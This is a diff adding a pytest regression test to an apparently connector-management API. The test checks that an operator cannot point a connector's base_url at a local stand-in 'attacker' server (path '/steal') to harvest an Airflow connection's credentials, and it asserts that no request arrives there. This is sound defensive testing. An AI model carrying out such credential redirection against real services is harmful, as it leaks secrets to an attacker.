@@ -184,3 +184,41 @@ def test_database_connector_tests_do_not_quote_what_the_server_sent(
     ), answer["message"]
     # Before: "... invalid response to SSL negotiation: A" and "Packet sequence number wrong - got 65".
     assert "negotiation: A" not in answer["message"] and "got 65" not in answer["message"]
+
+
+@pytest.mark.parametrize(
+    ("conn_id", "uri"),
+    [
+        ("prod_pg", "postgres://admin:TOPSECRETPW@db.internal:5432/prod"),
+        ("prod_http", "http://svc:HTTPSECRET@api.internal"),
+    ],
+)
+def test_an_airflow_connections_credentials_never_go_to_a_base_url_of_the_operators(
+    api_client: TestClient, monkeypatch: pytest.MonkeyPatch, conn_id: str, uri: str
+) -> None:
+    """A connector borrowing an Airflow connection may only send its credentials to that connection's host."""
+    monkeypatch.setenv(f"AIRFLOW_CONN_{conn_id.upper()}", uri)
+    make_user("scope-operator", ["operator"])
+    operator = bearer(login(api_client, "scope-operator")["access_token"])
+    seen: list[Request] = []
+
+    def record(request: Request) -> Reply:
+        seen.append(request)
+        return Reply(200, [{"id": 1}])
+
+    with LocalServer(record) as attacker:
+        created = api_client.post(
+            "/api/v1/connectors",
+            headers=operator,
+            json={
+                "name": "borrowed",
+                "connector_type": "api",
+                "connection_settings": {"base_url": attacker.url + "/steal", "retry": {"max_attempts": 1}},
+                "auth_settings": {"auth_type": "airflow_connection", "params": {"conn_id": conn_id}},
+            },
+        )
+        assert created.status_code == 201, created.text
+        tested = api_client.post(f"/api/v1/connectors/{created.json()['id']}/test", headers=operator)
+    assert tested.status_code == 200
+    assert tested.json()["ok"] is False and f"Airflow connection {conn_id!r}" in tested.json()["message"]
+    assert seen == []  # not one request, so no credential, reached the operator's server
